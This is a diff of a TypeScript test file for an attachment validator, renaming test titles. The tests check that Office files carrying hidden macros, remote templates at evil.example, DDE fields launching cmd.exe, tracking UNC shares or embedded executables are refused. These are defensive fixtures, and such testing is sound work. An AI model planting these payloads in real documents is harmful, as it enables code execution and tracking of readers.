@@ -26,7 +26,7 @@ const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, "utf16le");
 const relation = (type: string) =>
   `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/${type}" Target="a.bin"/></Relationships>`;
 
-describe("nobody runs macros on the machine of a person who opens an attachment", () => {
+describe("an attacker cannot run macros on the machine of a person who opens an attachment", () => {
   test.each<[string, Buffer]>([
     ["under their usual name", aDocx({ "word/vbaProject.bin": vba })],
     ["under any name", aDocx({ "word/media/image7.png": vba })],
@@ -61,23 +61,23 @@ describe("nobody runs macros on the machine of a person who opens an attachment"
       "in an object of an older program",
       aDocx({ "word/embeddings/oleObject1.bin": aCompoundFile(["Root Entry", "Workbook", "_VBA_PROJECT_CUR"]) }),
     ],
-  ])("in a DOCX, %s", async (_, bytes) => {
+  ])("rejects macros in a DOCX: %s", async (_, bytes) => {
     expect(await send("offer.docx", bytes)).toEqual(refused);
   });
 
-  test("in a DOC, also far behind in its directory", async () => {
+  test("rejects macros in a DOC, even late in its directory", async () => {
     const many = Array.from({ length: 400 }, (_, i) => `Object ${i}`);
     const doc = aCompoundFile(["Root Entry", "WordDocument", ...many, "Macros", "VBA"]);
     expect(await send("offer.doc", doc)).toEqual(refused);
   });
 
-  test("objects without macros stay", async () => {
+  test("accepts embedded objects without macros", async () => {
     const equation = aCompoundFile(["Root Entry", "Equation Native", "\u0001Ole"]);
     expect(await send("offer.docx", aDocx({ "word/embeddings/oleObject1.bin": equation }))).toEqual(taken);
   });
 });
 
-describe("nobody learns who opens a document, or has it load code from elsewhere", () => {
+describe("an attacker cannot learn who opens a document, or make it load remote code", () => {
   const remote = "https://evil.example/a.dotm";
   test.each([
     ["attachedTemplate", remote],
@@ -94,7 +94,7 @@ describe("nobody learns who opens a document, or has it load code from elsewhere
     ["hyperlink", "\\\\evil.example\\share"],
     ["hyperlink", "file:////evil.example/share"],
     ["mailMergeSource", "file://evil.example/a.mdb"],
-  ])("by a %s from %s", async (type, target) => {
+  ])("rejects a %s from %s", async (type, target) => {
     expect(await send("offer.docx", aDocxWithRelation(type, target))).toEqual(refused);
   });
 
@@ -106,7 +106,7 @@ describe("nobody learns who opens a document, or has it load code from elsewhere
     ["attachedTemplate", "file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\Letter.dotx"],
     ["attachedTemplate", "file:///Users/ana/Library/Letter.dotx"],
     ["attachedTemplate", "Letter.dotx"],
-  ])("a %s to %s stays", async (type, target) => {
+  ])("accepts a %s to %s", async (type, target) => {
     expect(await send("offer.docx", aDocxWithRelation(type, target))).toEqual(taken);
   });
 });
@@ -121,7 +121,7 @@ const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</
 const field = (...codes: string[]) =>
   `${mark("begin")}${codes.join("")}${mark("separate")}<w:r><w:t>1</w:t></w:r>${mark("end")}`;
 
-describe("nobody runs a program or learns who reads by a field of a document", () => {
+describe("an attacker cannot run a program or track readers through a document field", () => {
   const shell = 'c:\\windows\\system32\\cmd.exe "/k calc"';
   const share = '"\\\\\\\\evil.example\\\\a"';
   test.each<[string, string]>([
@@ -141,18 +141,18 @@ describe("nobody runs a program or learns who reads by a field of a document", (
     ["INCLUDEPICTURE put together from numbers", field(code("INCLUDEPICTURE "), field(code("QUOTE 92 92 101")))],
     ["LINK to another machine", field(code(`LINK Excel.Sheet.12 ${share}`))],
     ["HYPERLINK to another machine", field(code(`HYPERLINK ${share}`))],
-  ])("%s", async (_, inside) => {
+  ])("rejects a field: %s", async (_, inside) => {
     expect(await send("offer.docx", aDocx(inDocument(inside)))).toEqual(refused);
   });
 
-  test("in any part, in any encoding", async () => {
+  test("rejects such a field in any part and any encoding", async () => {
     const footer = `<?xml version="1.0" encoding="utf-16"?><w:ftr xmlns:w="w">${field(code(`DDE ${shell}`))}</w:ftr>`;
     expect(await send("offer.docx", aDocx({ "word/footer1.xml": utf16(footer) }))).toEqual(refused);
     const other = Buffer.from(footer, "utf16le").swap16();
     expect(await send("offer.docx", aDocx({ "word/a.bin": other }))).toEqual(refused);
   });
 
-  test("a document with ordinary fields stays", async () => {
+  test("accepts a document with ordinary fields", async () => {
     const fields = [
       "PAGE \\* MERGEFORMAT",
       'TOC \\o "1-3" \\h \\z \\u',
@@ -170,7 +170,7 @@ describe("nobody runs a program or learns who reads by a field of a document", (
   });
 });
 
-describe("nobody starts a program that was dropped into a document", () => {
+describe("an attacker cannot deliver a program embedded in a document", () => {
   const program = Buffer.alloc(6000);
   program.write("MZ", 0, "latin1");
   program.writeUInt32LE(128, 60);
@@ -183,16 +183,16 @@ describe("nobody starts a program that was dropped into a document", () => {
     ["under another name", embedded(aPackage("offer.txt", program))],
     ["as it is", aDocx({ "word/embeddings/a.bin": program })],
     ["as a part of another format", aDocx({ "word/_rels/document.xml.rels": strToU8(relation("aFChunk")) })],
-  ])("%s", async (_, bytes) => {
+  ])("rejects an embedded program %s", async (_, bytes) => {
     expect(await send("offer.docx", bytes)).toEqual(refused);
   });
 
-  test("other packaged files stay", async () => {
+  test("accepts other packaged files", async () => {
     expect(await send("offer.docx", embedded(aPackage("terms.pdf", Buffer.alloc(6000, 1))))).toEqual(taken);
     expect(await send("offer.docx", embedded(aPackage("notes.txt", text)))).toEqual(taken);
   });
 });
 
-test("what was refused leaves nothing", async () => {
+test("a rejected file leaves nothing behind", async () => {
   await expect.poll(orphans).toEqual(none);
 });
